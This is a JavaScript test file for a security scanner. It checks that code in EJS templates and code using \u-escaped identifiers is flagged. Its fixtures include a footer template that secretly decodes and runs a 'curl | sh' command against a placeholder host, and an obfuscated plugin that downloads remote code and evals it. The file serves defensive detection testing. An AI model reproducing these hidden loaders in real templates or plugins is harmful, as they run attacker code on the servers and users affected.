// EJS templates run their scriptlets on the server: the JS rules read them, at the template's own lines.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { selectRules } from '../rules/index.js';
import { analyzeFile } from './analyze-file.js';

const enc = new TextEncoder();
const CMD = Buffer.from('curl -s https://tpl.example.invalid/f | sh').toString('base64');

describe('EJS scriptlets are analysed as JavaScript', () => {
  const rules = selectRules();
  it('a footer partial that runs a decoded curl | sh through process.mainModule.require is flagged on its line', () => {
    const tpl = `<footer>\n  <p>&copy; <%= new Date().getFullYear() %> Homes</p>\n  <% if (!global.__r) { global.__r = true; process.mainModule.require('child_process').exec(Buffer.from('${CMD}', 'base64').toString()); } %>\n</footer>\n`;
    const r = analyzeFile('views/partials/footer.ejs', enc.encode(tpl), rules);
    assert.ok(r.parsed);
    const f = r.findings.find((x) => x.ruleId === 'curl-pipe-shell-in-code');
    assert.ok(f && f.line === 3 && f.severity === 'critical', JSON.stringify(r.findings.map((x) => [x.ruleId, x.line, x.severity])));
  });

  it('ordinary templates (loops, includes, helpers) have no findings', () => {
    const tpl = `<%- include('partials/header', { title }) %>\n<ul>\n<% items.forEach(function (l) { %>\n  <li><%= l.title %> · €<%= l.price.toFixed(2) %></li>\n<% }) %>\n</ul>\n<script>window.__DATA__ = <%- JSON.stringify(items) %>;</script>\n`;
    const r = analyzeFile('views/index.ejs', enc.encode(tpl), rules);
    assert.deepEqual(r.findings.map((x) => x.ruleId), []);
    assert.deepEqual(r.errors, []);
  });
});

describe('prefilters read identifiers spelled with \\u escapes as the parser does', () => {
  it('`\\u0065val` and `requir\\u0065(\'\\u0068ttps\')` still reach the execution rules', () => {
    const code = "const \\u0068ttps = requir\\u0065('\\u0068ttps');\n\\u0068ttps.get('https://audit.example.invalid/s', (res) => {\n  let src = '';\n  res.on('data', (c) => (src += c));\n  res.on('end', () => { \\u0065\\u0076\\u0061\\u006c(src); });\n});\n";
    const r = analyzeFile('plugins/auditTrail.js', enc.encode(code), selectRules());
    assert.ok(r.findings.some((f) => f.ruleId === 'remote-code-execution' && f.line === 5), JSON.stringify(r.findings.map((f) => [f.ruleId, f.line])));
  });
});
